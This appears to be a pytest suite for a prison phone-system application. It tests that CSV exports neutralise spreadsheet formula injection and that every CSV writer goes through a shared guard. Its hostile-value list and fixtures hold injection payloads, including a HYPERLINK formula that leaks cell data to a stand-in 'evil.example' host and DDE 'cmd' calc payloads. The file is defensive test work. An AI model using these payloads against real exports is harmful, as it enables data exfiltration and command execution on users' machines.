"""CSV formula injection (issue 8, defect 5): no export hands a spreadsheet a cell it would run as a formula.

A hostile value (a contact name from the kiosk, an inmate's name from the jail system, a reason typed by
staff) is written with a leading single quote; numbers that are numbers (a ledger's -15) stay numbers.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import reverse

from audit.services import audit_record
from calls.models import LedgerEntry
from core.csv import FORMULA_PREFIXES, csv_cell, csv_lines
from facilities.admin_base import ScopedReadOnlyAdmin
from facilities.models import CustodyEvent
from tests.auth import signed_in

from .factories import UserFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
ROOT = Path(__file__).resolve().parent.parent


def _cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def _has(body: str, cell: str) -> bool:
    return any(cell in row for row in _cells(body))


def _unsafe(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would read as a formula (a plain number such as -15 is a number, not a formula)."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.match(cell)]


# --------------------------------------------------------------------------- the one function


@pytest.mark.parametrize("value", HOSTILE)
def test_text_beginning_like_a_formula_gets_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-15", "+13125550123", "-", "="])
def test_a_string_that_looks_like_a_number_is_still_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-15, 0, 42, -1.5, Decimal("-2.50")])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) is value
    assert next(csv_lines([[value]])).strip() == str(value)


def test_other_values():
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True" and csv_cell(False) == "False"
    assert csv_cell("Ada Lovelace") == "Ada Lovelace"
    assert csv_cell(" =1+1") == " =1+1"  # leading space: not read as a formula
    assert csv_cell("<b>=1+1</b>", clean=lambda text: text.replace("<b>", "").replace("</b>", "")) == "'=1+1"


def test_csv_lines_quote_separators_and_neutralise_each_cell():
    line = next(csv_lines([['=1,2', 'a"b', -3, "@x"]]))
    assert _cells(line) == [["'=1,2", 'a"b', "-3", "'@x"]]


def test_every_csv_writer_goes_through_core_csv():
    """A new export cannot forget the guard: every module that writes CSV imports ``core.csv``."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "tests", "var", "bench", "node_modules"} or path == ROOT / "core" / "csv.py":
            continue
        text = path.read_text(encoding="utf-8")
        if ("csv.writer" in text or "text/csv" in text or "DictWriter" in text) and "core.csv" not in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --------------------------------------------------------------------------- every export


@pytest.fixture
def hostile_world(home, inmate, platform, warden, staff):
    """Hostile text where outsiders and staff can put it: the kiosk's contact name (through the API), the
    jail system's inmate names, reasons and notes typed by staff; and a negative ledger amount."""
    response = platform.post("/api/v1/phone-list/requests", {
        "facility": "home", "register_number": inmate.register_number, "number": "(312) 555-0147",
        "contact_name": HYPERLINK, "relationship": "parent",
    }, format="json")
    assert response.status_code == 201, response.json()
    inmate.first_name, inmate.last_name = "@SUM(1+1)", "=1+1"
    inmate.save()
    audit_record(action="note", actor=warden, facility=home, reason=HOSTILE[1], target=inmate)
    LedgerEntry.objects.create(inmate=inmate, facility=home, kind=LedgerEntry.Kind.CALL_CHARGE, minutes=-15,
                               balance_after=-15, actor_label=HYPERLINK, reason=HOSTILE[3])
    CustodyEvent.objects.create(inmate=inmate, kind=CustodyEvent.Kind.TRANSFERRED, from_facility=home,
                                occurred_on="2026-03-01", source="-2+3", reason=HYPERLINK)
    return inmate


def _admin_csv(client, model) -> str:
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
    response = client.get(url, {"_export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), url
    return b"".join(response.streaming_content).decode()


def test_every_admin_export_neutralises_formulas(client, hostile_world):
    signed_in(client, UserFactory(username="root", is_superuser=True, is_staff=True))
    bodies = {model._meta.label: _admin_csv(client, model) for model, model_admin in admin.site._registry.items()
              if isinstance(model_admin, ScopedReadOnlyAdmin)}
    assert len(bodies) >= 20
    for label, body in bodies.items():
        assert _unsafe(_cells(body)) == [], label
    # The hostile values are there, as text.
    assert _has(bodies["approvals.PhoneListEntry"], "'" + HYPERLINK)
    inmates = _cells(bodies["facilities.Inmate"])
    assert any("'=1+1" in row and "'@SUM(1+1)" in row for row in inmates)
    assert _has(bodies["audit.AuditEvent"], "'" + HOSTILE[1])
    ledger = [row for row in _cells(bodies["calls.LedgerEntry"]) if "'" + HOSTILE[3] in row]
    assert len(ledger) == 1 and "-15" in ledger[0] and "'" + HYPERLINK in ledger[0]  # the number stays a number
    assert _has(bodies["facilities.CustodyEvent"], "'-2+3")


def test_auditors_export_is_neutralised_too(client, auditor, hostile_world):
    signed_in(client, auditor)
    from approvals.models import PhoneListEntry

    rows = _cells(_admin_csv(client, PhoneListEntry))
    assert _unsafe(rows) == [] and any("'" + HYPERLINK in row for row in rows)


def test_calls_page_export_neutralises_formulas(login, staff, home, hostile_world, platform):
    from approvals.models import PhoneListEntry

    assert PhoneListEntry.objects.filter(inmate=hostile_world, status="live").exists()
    platform.post("/api/v1/calls/authorize", {"facility": "home", "register_number": hostile_world.register_number,
                                              "dialed_number": "+13125550147"}, format="json")
    response = login(staff).get(reverse("calls-list", args=[home.code]), {"export": "csv"})
    rows = _cells(b"".join(response.streaming_content).decode())
    assert len(rows) == 2, rows
    assert _unsafe(rows) == []
    assert "'=1+1, @SUM(1+1)" in rows[1]
    assert "'+13125550147" in rows[1]  # the dialled number is text (a string), so it gets the quote as well
